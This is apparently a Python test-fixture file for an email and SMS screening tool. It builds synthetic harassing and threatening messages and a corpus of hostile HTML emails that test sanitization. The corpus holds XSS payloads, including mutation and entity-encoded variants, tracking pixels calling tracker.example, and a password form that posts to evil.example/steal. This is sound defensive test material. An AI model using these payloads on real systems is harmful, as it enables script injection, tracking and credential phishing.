"""Real records for the web and evidence tests: emails built as raw RFC 5322
bytes (parsed back by the same code the daemon uses), SMS as stored JSON, and
a corpus of hostile HTML emails. Also used by docs/screenshots/make.py.
"""

from __future__ import annotations

import json
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from datetime import datetime

from screener.ingest import screen_into_store, screener_for
from screener.message import Message
from screener.sources.mime import parse_email
from screener.store import Incoming, sha256

RECORDS = [
    {"channel": "email", "sender": "alex.morgan@gmail.com", "sender_name": "Alex Morgan", "subject": "us",
     "body": "After everything I did for you, you owe me a conversation. You never cared about anyone but "
             "yourself. Pick up Emma Saturday at 3pm at school.", "date": "2026-03-02T09:15:00+00:00"},
    {"channel": "email", "sender": "alex.morgan@gmail.com", "sender_name": "Alex Morgan", "subject": "Miss you",
     "body": "I miss you so much. Nobody will ever love you like I do. Just one coffee, I promise I have changed.",
     "date": "2026-03-04T21:40:00+00:00"},
    {"channel": "sms", "sender": "(415) 555-0142", "body": "I know where you live. You will regret this.",
     "date": "2026-03-05T23:05:00+00:00"},
    {"channel": "email", "sender": "alex.m0rgan@gmail.com", "sender_name": "A. Morgan", "subject": "new email",
     "body": "You are pathetic and everyone knows you are lying about me. You owe me after everything.",
     "date": "2026-03-06T08:00:00+00:00"},
    {"channel": "email", "sender": "dana@example.net", "sender_name": "Dana Lee", "subject": "lunch",
     "body": "Lunch on Thursday? The new place on 5th.", "date": "2026-03-06T12:00:00+00:00"},
    {"channel": "email", "sender": "amorgan@corp.example", "sender_name": "Алекс Морган",
     "subject": "Привет — ça va?",
     "body": "Ты должна мне ответить. After everything I did for you, you owe me. Ελληνικά: ευχαριστώ.",
     "date": "2026-03-07T10:30:00+00:00"},
]

HOSTILE = [
    ("script", '<p>hello</p><script>window.__pwned = "script"</script><p>after</p>'),
    ("onerror", '<img src="x" onerror="window.__pwned=\'onerror\'"><p>img onerror</p>'),
    ("svg", '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned="svg-script"</script>'
            '<image href="https://tracker.example/svg.png"/></svg><p>svg</p>'),
    ("javascript-link", '<a href="javascript:window.__pwned=\'js-link\'">click me</a>'
                        '<a href="https://evil.example/phish">Your account</a>'),
    ("css-url", '<div style="background:url(https://tracker.example/bg.png)">css url</div>'
                '<style>body{background:url("https://tracker.example/style.png")}</style>'),
    ("css-import", '<style>@import url("https://tracker.example/import.css");</style><p>import</p>'),
    ("remote-image", '<p>photo</p><img src="https://tracker.example/photo.jpg" alt="our photo">'),
    ("tracking-pixel", '<img src="http://tracker.example/open.gif?id=42" width="1" height="1">'
                       '<img srcset="https://tracker.example/2x.png 2x" src="//tracker.example/proto.png">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">meta refresh'),
    ("base-href", '<base href="https://evil.example/"><a href="relative">relative</a><img src="rel.png">'),
    ("iframe", '<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.__pwned=1'
               '</script>"></iframe><p>iframes</p>'),
    ("form", '<form action="https://evil.example/steal" method="post"><input name="password">'
             '<button formaction="https://evil.example/b">Send</button></form><p>form</p>'),
    ("link-prefetch", '<link rel="stylesheet" href="https://tracker.example/s.css">'
                      '<link rel="prefetch" href="https://tracker.example/p"><p>links</p>'),
    ("object-embed", '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">'
                     '<video src="https://tracker.example/v.mp4" poster="https://tracker.example/p.jpg"></video>'
                     '<audio src="https://tracker.example/a.mp3"></audio><p>media</p>'),
    ("table-background", '<table background="https://tracker.example/t.png"><tr>'
                         '<td background="https://tracker.example/td.png">cell</td></tr></table>'),
    ("data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><p>data svg</p>'),
    ("entities", '<a href="jav&#x61;script:window.__pwned=1">entity link</a>'
                 '<img src="x" o&#110;error="window.__pwned=1"><p>&lt;script&gt;text&lt;/script&gt;</p>'),
    ("mutation", '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'mxss\'>"></noscript>'
                 '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=2>'),
]


# A 1x1 PNG, sent inside the message and referenced as cid: from its HTML.
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154"
                    "789c63f8cfc0f01f00050001ff89993d1d0000000049454e44ae426082")
INLINE = ("inline-image", '<p>logo</p><img src="cid:logo@example" alt="our logo">', {"logo@example": PNG})


def email_bytes(record: dict, html: str | None = None, images: dict[str, bytes] | None = None,
                to: str = "sam.rivera@example.org") -> bytes:
    msg = EmailMessage()
    name = record.get("sender_name")
    msg["From"] = f"{name} <{record['sender']}>" if name else record["sender"]
    msg["To"] = to
    msg["Subject"] = record.get("subject", "")
    msg["Date"] = format_datetime(datetime.fromisoformat(record["date"]))
    msg["Message-ID"] = make_msgid(domain=record["sender"].split("@")[-1])
    msg["Received"] = "from mail.example (mail.example [192.0.2.10]) by mx.example.org; " + msg["Date"]
    msg["Authentication-Results"] = "mx.example.org; spf=pass smtp.mailfrom=" + record["sender"]
    msg.set_content(record["body"])
    if html is not None:
        msg.add_alternative(html, subtype="html")
        for cid, data in (images or {}).items():
            msg.get_payload()[1].add_related(data, "image", "png", cid=f"<{cid}>")
    return msg.as_bytes()


def incoming(record: dict, n: int, html: str | None = None, images=None) -> Incoming:
    if record.get("channel", "email") == "email":
        raw = email_bytes(record, html, images)
        message = parse_email(raw, f"web-{n}")
        return Incoming(message=message, raw=raw, source="imap", dedup_key=f"{message.id}:{sha256(raw)}",
                        account="test", folder="INBOX", uidvalidity=1, uid=n, message_id=f"web-{n}")
    raw = json.dumps({"id": f"sms-{n}", **record}, ensure_ascii=False).encode("utf-8")
    message = Message.from_dict({"id": f"sms-{n}", **record})
    return Incoming(message=message, raw=raw, source="sms-backup", dedup_key=f"sms-{n}")


def hostile_record(name: str) -> dict:
    return {"channel": "email", "sender": "alex.morgan@gmail.com", "sender_name": "Alex Morgan",
            "subject": f"hostile {name}", "body": f"You owe me. ({name})", "date": "2026-03-08T10:00:00+00:00"}


def fill(config, model, store, records=RECORDS, hostile=HOSTILE) -> dict[str, int]:
    """Screen the records (and hostile HTML emails) into `store`. Returns subject -> message id."""
    items = [incoming(r, i) for i, r in enumerate(records)]
    items += [incoming(hostile_record(name), 100 + i, html) for i, (name, html) in enumerate(hostile)]
    name, html, images = INLINE
    items.append(incoming(hostile_record(name), 99, html, images))
    stored = screen_into_store(screener_for(config, model, store), store, items, "import")
    ids = {}
    for item, out in zip(items, stored):
        ids[item.message.subject or item.message.body[:20]] = out.row
    return ids
